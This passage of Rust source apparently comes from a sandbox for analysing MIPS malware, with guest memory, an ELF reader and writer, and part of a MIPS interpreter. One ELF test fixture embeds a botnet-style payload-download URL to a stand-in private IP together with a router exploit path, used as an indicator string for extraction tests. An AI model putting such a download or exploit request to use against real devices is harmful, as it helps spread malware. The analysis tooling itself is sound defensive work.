            .find(|s| addr >= s.base && u64::from(addr) < s.base as u64 + s.data.len() as u64)
            .map(|s| (s.base, s.data.len() as u32, s.writable))
    }

    fn seg(&self, addr: u32, size: u32) -> Result<(usize, usize), MemError> {
        for (i, s) in self.segments.iter().enumerate() {
            let off = addr.wrapping_sub(s.base);
            if (off as u64) + size as u64 <= s.data.len() as u64 && addr >= s.base {
                return Ok((i, off as usize));
            }
        }
        Err(MemError::Unmapped { addr, size })
    }

    /// Read one byte.
    pub fn read_u8(&self, addr: u32) -> Result<u8, MemError> {
        let (i, off) = self.seg(addr, 1)?;
        Ok(self.segments[i].data[off])
    }

    /// Read a big-endian halfword (2-byte aligned).
    pub fn read_u16(&self, addr: u32) -> Result<u16, MemError> {
        if !addr.is_multiple_of(2) {
            return Err(MemError::Misaligned { addr, align: 2 });
        }
        let (i, off) = self.seg(addr, 2)?;
        let d = &self.segments[i].data;
        Ok(u16::from_be_bytes([d[off], d[off + 1]]))
    }

    /// Read a big-endian word (4-byte aligned).
    pub fn read_u32(&self, addr: u32) -> Result<u32, MemError> {
        if !addr.is_multiple_of(4) {
            return Err(MemError::Misaligned { addr, align: 4 });
        }
        let (i, off) = self.seg(addr, 4)?;
        let d = &self.segments[i].data;
        Ok(u32::from_be_bytes([
            d[off],
            d[off + 1],
            d[off + 2],
            d[off + 3],
        ]))
    }

    /// Write one byte.
    pub fn write_u8(&mut self, addr: u32, v: u8) -> Result<(), MemError> {
        let (i, off) = self.seg(addr, 1)?;
        if !self.segments[i].writable {
            return Err(MemError::ReadOnly { addr });
        }
        self.segments[i].data[off] = v;
        self.note_write(addr, 1);
        Ok(())
    }

    /// Write a big-endian halfword.
    pub fn write_u16(&mut self, addr: u32, v: u16) -> Result<(), MemError> {
        if !addr.is_multiple_of(2) {
            return Err(MemError::Misaligned { addr, align: 2 });
        }
        let (i, off) = self.seg(addr, 2)?;
        if !self.segments[i].writable {
            return Err(MemError::ReadOnly { addr });
        }
        self.segments[i].data[off..off + 2].copy_from_slice(&v.to_be_bytes());
        self.note_write(addr, 2);
        Ok(())
    }

    /// Write a big-endian word.
    pub fn write_u32(&mut self, addr: u32, v: u32) -> Result<(), MemError> {
        if !addr.is_multiple_of(4) {
            return Err(MemError::Misaligned { addr, align: 4 });
        }
        let (i, off) = self.seg(addr, 4)?;
        if !self.segments[i].writable {
            return Err(MemError::ReadOnly { addr });
        }
        self.segments[i].data[off..off + 4].copy_from_slice(&v.to_be_bytes());
        self.note_write(addr, 4);
        Ok(())
    }

    /// Read `len` bytes into a vector.
    pub fn read_bytes(&self, addr: u32, len: u32) -> Result<Vec<u8>, MemError> {
        let (i, off) = self.seg(addr, len)?;
        Ok(self.segments[i].data[off..off + len as usize].to_vec())
    }

    /// Read exactly `buf.len()` bytes into `buf` without allocating
    /// (syscall fast path for fixed-size guest structs).
    pub fn read_into(&self, addr: u32, buf: &mut [u8]) -> Result<(), MemError> {
        let (i, off) = self.seg(addr, buf.len() as u32)?;
        buf.copy_from_slice(&self.segments[i].data[off..off + buf.len()]);
        Ok(())
    }

    /// Borrow `len` bytes of guest memory without copying (syscall fast
    /// path for payloads that are immediately consumed, e.g. TCP sends).
    pub fn view(&self, addr: u32, len: u32) -> Result<&[u8], MemError> {
        let (i, off) = self.seg(addr, len)?;
        Ok(&self.segments[i].data[off..off + len as usize])
    }

    /// Write a byte slice.
    pub fn write_bytes(&mut self, addr: u32, bytes: &[u8]) -> Result<(), MemError> {
        let (i, off) = self.seg(addr, bytes.len() as u32)?;
        if !self.segments[i].writable {
            return Err(MemError::ReadOnly { addr });
        }
        self.segments[i].data[off..off + bytes.len()].copy_from_slice(bytes);
        self.note_write(addr, bytes.len() as u32);
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mem() -> Memory {
        let mut m = Memory::new();
        m.map(0x1000, vec![0; 256], true);
        m.map(0x400000, (0..64).collect(), false);
        m
    }

    #[test]
    fn read_write_roundtrip_all_sizes() {
        let mut m = mem();
        m.write_u8(0x1000, 0xab).unwrap();
        m.write_u16(0x1002, 0xbeef).unwrap();
        m.write_u32(0x1004, 0xdeadbeef).unwrap();
        assert_eq!(m.read_u8(0x1000).unwrap(), 0xab);
        assert_eq!(m.read_u16(0x1002).unwrap(), 0xbeef);
        assert_eq!(m.read_u32(0x1004).unwrap(), 0xdeadbeef);
        // Big-endian byte order on the wire.
        assert_eq!(m.read_u8(0x1004).unwrap(), 0xde);
        assert_eq!(m.read_u8(0x1007).unwrap(), 0xef);
    }

    #[test]
    fn unmapped_access_faults() {
        let m = mem();
        assert!(matches!(m.read_u8(0x2000), Err(MemError::Unmapped { .. })));
        // Straddling the end of a segment also faults.
        assert!(matches!(
            m.read_u32(0x10fe),
            Err(MemError::Misaligned { .. })
        ));
        assert!(matches!(
            m.read_bytes(0x10f0, 32),
            Err(MemError::Unmapped { .. })
        ));
    }

    #[test]
    fn read_only_segment_rejects_writes() {
        let mut m = mem();
        assert_eq!(m.read_u8(0x400001).unwrap(), 1);
        assert!(matches!(
            m.write_u8(0x400000, 1),
            Err(MemError::ReadOnly { .. })
        ));
    }

    #[test]
    fn misaligned_faults() {
        let m = mem();
        assert!(matches!(
            m.read_u32(0x1001),
            Err(MemError::Misaligned { .. })
        ));
        assert!(matches!(
            m.read_u16(0x1001),
            Err(MemError::Misaligned { .. })
        ));
    }

    #[test]
    #[should_panic(expected = "overlapping")]
    fn overlap_panics() {
        let mut m = mem();
        m.map(0x10ff, vec![0; 4], true);
    }

    #[test]
    fn code_watch_versions_overlapping_writes_only() {
        let mut m = mem();
        assert_eq!(m.code_version(), 0);
        m.watch_code(0x1010, 0x1020);
        m.write_u8(0x1000, 1).unwrap(); // below range
        m.write_u32(0x1020, 2).unwrap(); // at end (exclusive)
        assert_eq!(m.code_version(), 0);
        m.write_u8(0x1010, 3).unwrap();
        assert_eq!(m.code_version(), 1);
        // A wide write straddling the range start counts once.
        m.write_bytes(0x100c, &[0; 8]).unwrap();
        assert_eq!(m.code_version(), 2);
        // Halfword ending exactly at range start does not overlap.
        m.write_u16(0x100e, 9).unwrap();
        assert_eq!(m.code_version(), 2);
        // Failed writes (read-only target) never bump.
        m.watch_code(0x400000, 0x400040);
        assert!(m.write_u8(0x400000, 1).is_err());
        assert_eq!(m.code_version(), 2);
    }

    #[test]
    fn segment_span_and_view() {
        let m = mem();
        assert_eq!(m.segment_span(0x400010), Some((0x400000, 64, false)));
        assert_eq!(m.segment_span(0x1000), Some((0x1000, 256, true)));
        assert_eq!(m.segment_span(0x2000), None);
        assert_eq!(m.view(0x400000, 4).unwrap(), &[0, 1, 2, 3]);
        assert!(m.view(0x400030, 64).is_err());
        let mut buf = [0u8; 4];
        m.read_into(0x400004, &mut buf).unwrap();
        assert_eq!(buf, [4, 5, 6, 7]);
        assert!(m.read_into(0x2000, &mut buf).is_err());
    }

    #[test]
    fn bytes_roundtrip() {
        let mut m = mem();
        m.write_bytes(0x1010, b"hello world").unwrap();
        assert_eq!(m.read_bytes(0x1010, 11).unwrap(), b"hello world");
    }
}
