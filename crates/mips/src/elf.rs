//! ELF32 big-endian MIPS executables: writer and reader.
//!
//! The writer produces statically-linked `ET_EXEC` images with proper
//! program headers (one `PT_LOAD` per segment) and a minimal section table
//! (`.text`, `.rodata`, `.bss`, `.shstrtab`) so tools like `readelf`
//! recognise the files. The reader is what the sandbox's loader and the
//! pipeline's static analysis use; it is tolerant of anything beyond the
//! loadable segments.

use std::fmt;

/// ELF parsing error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ElfError {
    /// File too short or header fields point outside the file.
    Truncated,
    /// Bad magic / class / data encoding.
    NotElf(&'static str),
    /// Wrong machine (we only load EM_MIPS).
    WrongMachine(u16),
}

impl fmt::Display for ElfError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ElfError::Truncated => write!(f, "elf: truncated"),
            ElfError::NotElf(w) => write!(f, "elf: not a supported ELF ({w})"),
            ElfError::WrongMachine(m) => write!(f, "elf: wrong machine {m:#x} (want EM_MIPS)"),
        }
    }
}

impl std::error::Error for ElfError {}

/// A loadable segment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ElfSegment {
    /// Virtual load address.
    pub vaddr: u32,
    /// File bytes to place at `vaddr`.
    pub data: Vec<u8>,
    /// Total in-memory size; if larger than `data.len()` the remainder is
    /// zero-filled (`.bss` style).
    pub memsz: u32,
    /// Writable?
    pub writable: bool,
    /// Executable?
    pub executable: bool,
    /// Section name recorded for this segment (presentation only).
    pub name: &'static str,
}

/// A parsed (or to-be-written) ELF executable.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ElfFile {
    /// Entry point address.
    pub entry: u32,
    /// Loadable segments in file order.
    pub segments: Vec<ElfSegment>,
}

const EM_MIPS: u16 = 8;

/// Upper bound on any single segment's `memsz` accepted by
/// [`ElfFile::parse`]: 64 MiB, far above anything the writer emits but
/// small enough that a bit-flipped header can't make [`ElfFile::load`]
/// zero-fill gigabytes.
pub const MAX_SEGMENT_MEMSZ: usize = 64 << 20;

impl ElfFile {
    /// Serialize to ELF bytes.
    pub fn write(&self) -> Vec<u8> {
        let ehsize = 52u32;
        let phentsize = 32u32;
        let shentsize = 40u32;
        let phnum = self.segments.len() as u32;
        let phoff = ehsize;
        let mut out = Vec::new();
        // --- ELF header ---
        out.extend_from_slice(&[0x7f, b'E', b'L', b'F']);
        out.push(1); // ELFCLASS32
        out.push(2); // ELFDATA2MSB (big-endian)
        out.push(1); // EV_CURRENT
        out.push(0); // ELFOSABI_NONE
        out.extend_from_slice(&[0; 8]); // padding
        out.extend_from_slice(&2u16.to_be_bytes()); // ET_EXEC
        out.extend_from_slice(&EM_MIPS.to_be_bytes());
        out.extend_from_slice(&1u32.to_be_bytes()); // version
        out.extend_from_slice(&self.entry.to_be_bytes());
        out.extend_from_slice(&phoff.to_be_bytes());
        let shoff_pos = out.len();
        out.extend_from_slice(&0u32.to_be_bytes()); // shoff patched later
        out.extend_from_slice(&0x7000_1000u32.to_be_bytes()); // e_flags: EF_MIPS_ARCH_32 | NOREORDER-ish
        out.extend_from_slice(&(ehsize as u16).to_be_bytes());
        out.extend_from_slice(&(phentsize as u16).to_be_bytes());
        out.extend_from_slice(&(phnum as u16).to_be_bytes());
        out.extend_from_slice(&(shentsize as u16).to_be_bytes());
        let shnum = self.segments.len() as u16 + 2; // null + shstrtab
        out.extend_from_slice(&shnum.to_be_bytes());
        out.extend_from_slice(&(shnum - 1).to_be_bytes()); // shstrndx (last)

        // --- program headers ---
        let data_start = phoff + phnum * phentsize;
        let mut offsets = Vec::new();
        let mut cursor = data_start;
        for seg in &self.segments {
            // Align each segment's file offset to 16 for neatness.
            cursor = (cursor + 15) & !15;
            offsets.push(cursor);
            cursor += seg.data.len() as u32;
        }
        for (seg, off) in self.segments.iter().zip(&offsets) {
            out.extend_from_slice(&1u32.to_be_bytes()); // PT_LOAD
            out.extend_from_slice(&off.to_be_bytes());
            out.extend_from_slice(&seg.vaddr.to_be_bytes());
            out.extend_from_slice(&seg.vaddr.to_be_bytes()); // paddr
            out.extend_from_slice(&(seg.data.len() as u32).to_be_bytes());
            out.extend_from_slice(&seg.memsz.max(seg.data.len() as u32).to_be_bytes());
            let mut flags = 4u32; // R
            if seg.writable {
                flags |= 2;
            }
            if seg.executable {
                flags |= 1;
            }
            out.extend_from_slice(&flags.to_be_bytes());
            out.extend_from_slice(&16u32.to_be_bytes()); // align
        }
        // --- segment data ---
        for (seg, off) in self.segments.iter().zip(&offsets) {
            while (out.len() as u32) < *off {
                out.push(0);
            }
            out.extend_from_slice(&seg.data);
        }
        // --- section string table ---
        let mut shstrtab = vec![0u8];
        let mut name_off = Vec::new();
        for seg in &self.segments {
            name_off.push(shstrtab.len() as u32);
            shstrtab.extend_from_slice(seg.name.as_bytes());
            shstrtab.push(0);
        }
        let shstrtab_name_off = shstrtab.len() as u32;
        shstrtab.extend_from_slice(b".shstrtab\0");
        let shstrtab_off = out.len() as u32;
        out.extend_from_slice(&shstrtab);
        // --- section headers ---
        let shoff = (out.len() as u32 + 3) & !3;
        while (out.len() as u32) < shoff {
            out.push(0);
        }
        out[shoff_pos..shoff_pos + 4].copy_from_slice(&shoff.to_be_bytes());
        // null section
        out.extend_from_slice(&[0u8; 40]);
        for ((seg, off), name) in self.segments.iter().zip(&offsets).zip(&name_off) {
            out.extend_from_slice(&name.to_be_bytes());
            let sh_type = if seg.data.is_empty() { 8u32 } else { 1u32 }; // NOBITS : PROGBITS
            out.extend_from_slice(&sh_type.to_be_bytes());
            let mut flags = 2u32; // ALLOC
            if seg.writable {
                flags |= 1;
            }
            if seg.executable {
                flags |= 4;
            }
            out.extend_from_slice(&flags.to_be_bytes());
            out.extend_from_slice(&seg.vaddr.to_be_bytes());
            out.extend_from_slice(&off.to_be_bytes());
            out.extend_from_slice(&(seg.data.len() as u32).to_be_bytes());
            out.extend_from_slice(&0u32.to_be_bytes()); // link
            out.extend_from_slice(&0u32.to_be_bytes()); // info
            out.extend_from_slice(&4u32.to_be_bytes()); // addralign
            out.extend_from_slice(&0u32.to_be_bytes()); // entsize
        }
        // shstrtab section
        out.extend_from_slice(&shstrtab_name_off.to_be_bytes());
        out.extend_from_slice(&3u32.to_be_bytes()); // STRTAB
        out.extend_from_slice(&0u32.to_be_bytes());
        out.extend_from_slice(&0u32.to_be_bytes());
        out.extend_from_slice(&shstrtab_off.to_be_bytes());
        out.extend_from_slice(&(shstrtab.len() as u32).to_be_bytes());
        out.extend_from_slice(&0u32.to_be_bytes());
        out.extend_from_slice(&0u32.to_be_bytes());
        out.extend_from_slice(&1u32.to_be_bytes());
        out.extend_from_slice(&0u32.to_be_bytes());
        out
    }

    /// Parse loadable segments from ELF bytes.
    pub fn parse(bytes: &[u8]) -> Result<Self, ElfError> {
        let need = |n: usize| -> Result<(), ElfError> {
            if bytes.len() < n {
                Err(ElfError::Truncated)
            } else {
                Ok(())
            }
        };
        need(52)?;
        if &bytes[0..4] != b"\x7fELF" {
            return Err(ElfError::NotElf("magic"));
        }
        if bytes[4] != 1 {
            return Err(ElfError::NotElf("class"));
        }
        if bytes[5] != 2 {
            return Err(ElfError::NotElf("data encoding"));
        }
        let u16_at = |i: usize| u16::from_be_bytes([bytes[i], bytes[i + 1]]);
        let u32_at =
            |i: usize| u32::from_be_bytes([bytes[i], bytes[i + 1], bytes[i + 2], bytes[i + 3]]);
        let machine = u16_at(18);
        if machine != EM_MIPS {
            return Err(ElfError::WrongMachine(machine));
        }
        let entry = u32_at(24);
        let phoff = u32_at(28) as usize;
        let phentsize = u16_at(42) as usize;
        let phnum = u16_at(44) as usize;
        if phentsize < 32 || phnum > 64 {
            return Err(ElfError::NotElf("program header geometry"));
        }
        let mut segments = Vec::new();
        for i in 0..phnum {
            // All offset arithmetic is checked: a crafted phoff/phentsize
            // must produce `Err`, never wrap around and read a bogus slice
            // (or panic). `phnum <= 64` bounds the loop itself.
            let base = phoff
                .checked_add(i.checked_mul(phentsize).ok_or(ElfError::Truncated)?)
                .ok_or(ElfError::Truncated)?;
            need(base.checked_add(32).ok_or(ElfError::Truncated)?)?;
            let p_type = u32_at(base);
            if p_type != 1 {
                continue; // only PT_LOAD
            }
            let off = u32_at(base + 4) as usize;
            let vaddr = u32_at(base + 8);
            let filesz = u32_at(base + 16) as usize;
            let memsz = u32_at(base + 20);
            let flags = u32_at(base + 24);
            let end = off.checked_add(filesz).ok_or(ElfError::Truncated)?;
            if end > bytes.len() {
                return Err(ElfError::Truncated);
            }
            // A malformed memsz must not make `load()` zero-fill gigabytes:
            // cap the in-memory size at a sane executable bound. (The
            // writer emits memsz == filesz except for small .bss tails.)
            if memsz as usize > MAX_SEGMENT_MEMSZ {
                return Err(ElfError::NotElf("segment memsz"));
            }
            segments.push(ElfSegment {
                vaddr,
                data: bytes[off..end].to_vec(),
                memsz,
                writable: flags & 2 != 0,
                executable: flags & 1 != 0,
                name: match (flags & 1 != 0, flags & 2 != 0) {
                    (true, _) => ".text",
                    (false, false) => ".rodata",
                    (false, true) => ".data",
                },
            });
        }
        Ok(ElfFile { entry, segments })
    }

    /// Load segments into a fresh [`crate::mem::Memory`] (zero-filling
    /// `memsz > filesz` tails) and return it.
    pub fn load(&self) -> crate::mem::Memory {
        let mut mem = crate::mem::Memory::new();
        for seg in &self.segments {
            let mut data = seg.data.clone();
            if seg.memsz as usize > data.len() {
                data.resize(seg.memsz as usize, 0);
            }
            mem.map(seg.vaddr, data, seg.writable);
        }
        mem
    }

    /// Extract printable ASCII strings of at least `min_len` bytes from
    /// all segments — the classic `strings(1)` pass the pipeline uses for
    /// static C2-address extraction.
    pub fn strings(&self, min_len: usize) -> Vec<String> {
        let mut out = Vec::new();
        for seg in &self.segments {
            let mut cur = Vec::new();
            for &b in seg.data.iter().chain(std::iter::once(&0u8)) {
                if (0x20..0x7f).contains(&b) {
                    cur.push(b);
                } else {
                    if cur.len() >= min_len {
                        out.push(String::from_utf8_lossy(&cur).to_string());
                    }
                    cur.clear();
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> ElfFile {
        ElfFile {
            entry: 0x0040_0000,
            segments: vec![
                ElfSegment {
                    vaddr: 0x0040_0000,
                    data: vec![0x24, 0x02, 0x0f, 0xa1, 0x00, 0x00, 0x00, 0x0c],
                    memsz: 8,
                    writable: false,
                    executable: true,
                    name: ".text",
                },
                ElfSegment {
                    vaddr: 0x1000_0000,
                    data: b"http://10.1.0.5/bins/mips;POST /GponForm/diag_Form\0".to_vec(),
                    memsz: 51,
                    writable: false,
                    executable: false,
                    name: ".rodata",
                },
                ElfSegment {
                    vaddr: 0x2000_0000,
                    data: vec![],
                    memsz: 4096,
                    writable: true,
                    executable: false,
                    name: ".bss",
                },
            ],
        }
    }

    #[test]
    fn write_parse_roundtrip() {
        let f = sample();
        let bytes = f.write();
        let g = ElfFile::parse(&bytes).unwrap();
        assert_eq!(g.entry, f.entry);
        assert_eq!(g.segments.len(), 3);
        assert_eq!(g.segments[0].data, f.segments[0].data);
        assert_eq!(g.segments[1].data, f.segments[1].data);
        assert_eq!(g.segments[2].memsz, 4096);
        assert!(g.segments[0].executable);
        assert!(g.segments[2].writable);
    }

    #[test]
    fn header_fields_are_mips_be_exec() {
        let bytes = sample().write();
        assert_eq!(&bytes[0..4], b"\x7fELF");
        assert_eq!(bytes[4], 1); // 32-bit
        assert_eq!(bytes[5], 2); // big-endian
        assert_eq!(u16::from_be_bytes([bytes[16], bytes[17]]), 2); // ET_EXEC
        assert_eq!(u16::from_be_bytes([bytes[18], bytes[19]]), 8); // EM_MIPS
    }

    #[test]
    fn rejects_non_elf_and_wrong_machine() {
        assert_eq!(ElfFile::parse(b"MZ").unwrap_err(), ElfError::Truncated);
        let mut bytes = sample().write();
        bytes[0] = 0;
        assert_eq!(
            ElfFile::parse(&bytes).unwrap_err(),
            ElfError::NotElf("magic")
        );
        let mut bytes = sample().write();
        bytes[18] = 0;
        bytes[19] = 62; // x86-64
        assert_eq!(
            ElfFile::parse(&bytes).unwrap_err(),
            ElfError::WrongMachine(62)
        );
    }

    #[test]
    fn truncated_segment_rejected() {
        let mut bytes = sample().write();
        bytes.truncate(80);
        assert_eq!(ElfFile::parse(&bytes).unwrap_err(), ElfError::Truncated);
    }

    #[test]
    fn absurd_memsz_rejected() {
        let mut bytes = sample().write();
        // First program header starts at 52; memsz is at +20.
        let memsz_at = 52 + 20;
        bytes[memsz_at..memsz_at + 4].copy_from_slice(&0xffff_ffffu32.to_be_bytes());
        assert_eq!(
            ElfFile::parse(&bytes).unwrap_err(),
            ElfError::NotElf("segment memsz")
        );
    }

    #[test]
    fn wrapping_phoff_rejected() {
        let mut bytes = sample().write();
        // phoff at byte 28: point it near usize::MAX's u32 edge so that
        // `phoff + i*phentsize + 32` would wrap on a 32-bit usize and
        // must be caught by the checked arithmetic (on 64-bit it simply
        // fails the bounds check).
        bytes[28..32].copy_from_slice(&0xffff_fff0u32.to_be_bytes());
        assert_eq!(ElfFile::parse(&bytes).unwrap_err(), ElfError::Truncated);
    }

    #[test]
    fn load_maps_segments_with_bss_zeroed() {
        let mem = sample().load();
        assert_eq!(mem.read_u32(0x0040_0000).unwrap(), 0x24020fa1);
        assert_eq!(mem.read_u8(0x2000_0fff).unwrap(), 0);
        assert!(mem.read_u8(0x2000_1000).is_err());
    }

    #[test]
    fn strings_extraction_finds_iocs() {
        let f = sample();
        let strs = f.strings(6);
        assert!(strs.iter().any(|s| s.contains("http://10.1.0.5/bins/mips")));
        assert!(strs.iter().any(|s| s.contains("GponForm")));
    }

    #[test]
    fn entry_survives() {
        let f = ElfFile {
            entry: 0x00400abc,
            segments: vec![ElfSegment {
                vaddr: 0x400000,
                data: vec![0; 16],
                memsz: 16,
                writable: false,
                executable: true,
                name: ".text",
            }],
        };
        assert_eq!(ElfFile::parse(&f.write()).unwrap().entry, 0x00400abc);
    }
}
