//! The interpreting MIPS32 CPU.
//!
//! Faithful enough to run the code our assembler produces: full integer
//! ALU, hi/lo multiply/divide, loads/stores (big-endian), branches and
//! jumps **with architectural delay slots**, and `syscall`/`break`.
//! Unknown opcodes fault (like SIGILL) rather than being ignored — the
//! sandbox treats a faulting binary as "failed to activate", one of the
//! activation-rate factors the paper discusses (§6f).

use crate::mem::{MemError, Memory};
use std::fmt;

/// CPU execution fault.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CpuError {
    /// Memory access fault.
    Mem(MemError),
    /// Undecodable instruction word.
    IllegalInstruction {
        /// Program counter of the instruction.
        pc: u32,
        /// The raw word.
        word: u32,
    },
    /// `break` executed.
    Break {
        /// Program counter of the `break`.
        pc: u32,
    },
    /// Integer divide by zero (we fault instead of UNPREDICTABLE).
    DivideByZero {
        /// Program counter of the divide.
        pc: u32,
    },
}

impl fmt::Display for CpuError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CpuError::Mem(e) => write!(f, "memory fault: {e}"),
            CpuError::IllegalInstruction { pc, word } => {
                write!(f, "illegal instruction {word:#010x} at {pc:#010x}")
            }
            CpuError::Break { pc } => write!(f, "break at {pc:#010x}"),
            CpuError::DivideByZero { pc } => write!(f, "divide by zero at {pc:#010x}"),
        }
    }
}

impl std::error::Error for CpuError {}

impl From<MemError> for CpuError {
    fn from(e: MemError) -> Self {
        CpuError::Mem(e)
    }
}

/// What `step` observed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StepOutcome {
    /// Normal instruction retired.
    Continue,
    /// A `syscall` instruction executed. The embedder must service it
    /// (reading `$v0`/`$a0..$a3`), write results, and resume; the PC has
    /// already advanced past the `syscall`.
    Syscall,
}

/// Conventional stack top for emulated processes.
pub const STACK_TOP: u32 = 0x7fff_f000;
/// Default stack size.
pub const STACK_SIZE: u32 = 256 * 1024;

/// The CPU: registers plus memory.
#[derive(Debug, Clone)]
pub struct Cpu {
    /// General-purpose registers; index 0 is hardwired to zero.
    pub regs: [u32; 32],
    /// Program counter.
    pub pc: u32,
    /// Multiply/divide HI.
    pub hi: u32,
    /// Multiply/divide LO.
    pub lo: u32,
    /// The address space.
    pub mem: Memory,
    /// Retired instruction count.
    pub retired: u64,
    pub(crate) pending_branch: Option<u32>,
}

impl Cpu {
    /// Create a CPU starting at `entry` over `mem`, with `$sp` set to the
    /// stack top (the stack segment must already be mapped).
    pub fn new(mem: Memory, entry: u32) -> Self {
        let mut regs = [0u32; 32];
        regs[29] = STACK_TOP - 16;
        Cpu {
            regs,
            pc: entry,
            hi: 0,
            lo: 0,
            mem,
            retired: 0,
            pending_branch: None,
        }
    }

    /// Read register (index 0 always 0).
    #[inline]
    pub fn reg(&self, r: u8) -> u32 {
        self.regs[(r & 31) as usize]
    }

    /// Write register (writes to $zero are discarded).
    #[inline]
    pub fn set_reg(&mut self, r: u8, v: u32) {
        if r & 31 != 0 {
            self.regs[(r & 31) as usize] = v;
        }
    }

    /// The branch target the next instruction (the delay slot) will
    /// retire into, if the previous instruction was a taken branch.
    /// Exposed so differential tests can compare complete CPU state.
    pub fn pending_branch(&self) -> Option<u32> {
        self.pending_branch
    }

    /// Execute one instruction.
    pub fn step(&mut self) -> Result<StepOutcome, CpuError> {
        let pc = self.pc;
        let word = self.mem.read_u32(pc)?;
        // Where does control go after this instruction (unless it branches)?
        let next = match self.pending_branch.take() {
            Some(target) => target,
            None => pc.wrapping_add(4),
        };
        self.pc = next;
        self.retired += 1;

        let op = word >> 26;
        let rs = ((word >> 21) & 31) as u8;
        let rt = ((word >> 16) & 31) as u8;
        let rd = ((word >> 11) & 31) as u8;
        let shamt = ((word >> 6) & 31) as u8;
        let funct = word & 0x3f;
        let imm = (word & 0xffff) as u16;
        let simm = imm as i16 as i32;

        macro_rules! branch_to {
            ($target:expr) => {{
                // The *next* instruction (delay slot) executes first; the
                // branch takes effect after it.
                self.pending_branch = Some($target);
            }};
        }

        match op {
            0 => match funct {
                0x00 => {
                    let v = self.reg(rt) << shamt;
                    self.set_reg(rd, v);
                }
                0x02 => {
                    let v = self.reg(rt) >> shamt;
                    self.set_reg(rd, v);
                }
                0x03 => {
                    let v = ((self.reg(rt) as i32) >> shamt) as u32;
                    self.set_reg(rd, v);
                }
                0x04 => {
                    let v = self.reg(rt) << (self.reg(rs) & 31);
                    self.set_reg(rd, v);
                }
                0x06 => {
                    let v = self.reg(rt) >> (self.reg(rs) & 31);
                    self.set_reg(rd, v);
                }
                0x08 => branch_to!(self.reg(rs)),
                0x09 => {
                    let target = self.reg(rs);
                    self.set_reg(rd, pc.wrapping_add(8));
                    branch_to!(target);
                }
                0x0c => return Ok(StepOutcome::Syscall),
                0x0d => return Err(CpuError::Break { pc }),
                0x10 => self.set_reg(rd, self.hi),
                0x12 => self.set_reg(rd, self.lo),
                0x18 => {
                    let p = i64::from(self.reg(rs) as i32) * i64::from(self.reg(rt) as i32);
                    self.lo = p as u32;
                    self.hi = (p >> 32) as u32;
                }
                0x19 => {
                    let p = u64::from(self.reg(rs)) * u64::from(self.reg(rt));
                    self.lo = p as u32;
                    self.hi = (p >> 32) as u32;
                }
                0x1a => {
                    let d = self.reg(rt) as i32;
                    if d == 0 {
                        return Err(CpuError::DivideByZero { pc });
                    }
                    let n = self.reg(rs) as i32;
                    self.lo = n.wrapping_div(d) as u32;
                    self.hi = n.wrapping_rem(d) as u32;
                }
                0x1b => {
                    let d = self.reg(rt);
                    if d == 0 {
                        return Err(CpuError::DivideByZero { pc });
                    }
                    let n = self.reg(rs);
                    self.lo = n / d;
                    self.hi = n % d;
                }
                0x21 => {
                    let v = self.reg(rs).wrapping_add(self.reg(rt));
                    self.set_reg(rd, v);
                }
                0x23 => {
                    let v = self.reg(rs).wrapping_sub(self.reg(rt));
                    self.set_reg(rd, v);
                }
                0x24 => {
                    let v = self.reg(rs) & self.reg(rt);
                    self.set_reg(rd, v);
                }
                0x25 => {
                    let v = self.reg(rs) | self.reg(rt);
                    self.set_reg(rd, v);
                }
                0x26 => {
                    let v = self.reg(rs) ^ self.reg(rt);
                    self.set_reg(rd, v);
                }
                0x27 => {
                    let v = !(self.reg(rs) | self.reg(rt));
                    self.set_reg(rd, v);
                }
                0x2a => {
                    let v = ((self.reg(rs) as i32) < (self.reg(rt) as i32)) as u32;
                    self.set_reg(rd, v);
                }
                0x2b => {
                    let v = (self.reg(rs) < self.reg(rt)) as u32;
                    self.set_reg(rd, v);
                }
                _ => return Err(CpuError::IllegalInstruction { pc, word }),
            },
            0x01 => {
                // REGIMM: bltz (rt=0), bgez (rt=1)
                let taken = match rt {
                    0 => (self.reg(rs) as i32) < 0,
                    1 => (self.reg(rs) as i32) >= 0,
                    _ => return Err(CpuError::IllegalInstruction { pc, word }),
                };
                if taken {
                    branch_to!(pc.wrapping_add(4).wrapping_add((simm << 2) as u32));
                }
            }
            0x02 => branch_to!((pc.wrapping_add(4) & 0xf000_0000) | (word & 0x03ff_ffff) << 2),
            0x03 => {
                self.set_reg(31, pc.wrapping_add(8));
                branch_to!((pc.wrapping_add(4) & 0xf000_0000) | (word & 0x03ff_ffff) << 2);
            }
            0x04 => {
                if self.reg(rs) == self.reg(rt) {
                    branch_to!(pc.wrapping_add(4).wrapping_add((simm << 2) as u32));
                }
            }
            0x05 => {
                if self.reg(rs) != self.reg(rt) {
                    branch_to!(pc.wrapping_add(4).wrapping_add((simm << 2) as u32));
                }
            }
            0x06 => {
                if (self.reg(rs) as i32) <= 0 {
                    branch_to!(pc.wrapping_add(4).wrapping_add((simm << 2) as u32));
                }
            }
            0x07 => {
                if (self.reg(rs) as i32) > 0 {
                    branch_to!(pc.wrapping_add(4).wrapping_add((simm << 2) as u32));
                }
            }
            0x08 | 0x09 => {
                // addi is treated as addiu (no overflow traps in our guest).
                let v = self.reg(rs).wrapping_add(simm as u32);
                self.set_reg(rt, v);
            }
            0x0a => {
                let v = ((self.reg(rs) as i32) < simm) as u32;
                self.set_reg(rt, v);
            }
            0x0b => {
                let v = (self.reg(rs) < simm as u32) as u32;
                self.set_reg(rt, v);
            }
            0x0c => {
                let v = self.reg(rs) & u32::from(imm);
                self.set_reg(rt, v);
            }
            0x0d => {
                let v = self.reg(rs) | u32::from(imm);
                self.set_reg(rt, v);
            }
            0x0e => {
                let v = self.reg(rs) ^ u32::from(imm);
                self.set_reg(rt, v);
            }
            0x0f => self.set_reg(rt, u32::from(imm) << 16),
            0x20 => {
                let a = self.reg(rs).wrapping_add(simm as u32);
                let v = self.mem.read_u8(a)? as i8 as i32 as u32;
                self.set_reg(rt, v);
            }
            0x21 => {
                let a = self.reg(rs).wrapping_add(simm as u32);
                let v = self.mem.read_u16(a)? as i16 as i32 as u32;
